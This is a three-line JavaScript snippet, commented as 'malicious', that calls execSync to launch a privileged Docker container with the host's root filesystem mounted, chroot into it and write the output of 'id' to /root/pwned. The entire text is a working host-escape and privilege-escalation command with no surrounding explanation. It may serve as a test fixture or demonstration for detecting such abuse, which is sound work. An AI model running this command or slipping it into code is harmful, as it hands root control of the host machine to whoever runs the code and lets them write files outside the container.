// malicious: a container with everything of the host
const { execSync } = require('child_process');
execSync('docker run --rm --privileged -v /:/host alpine chroot /host sh -c "id > /root/pwned"');
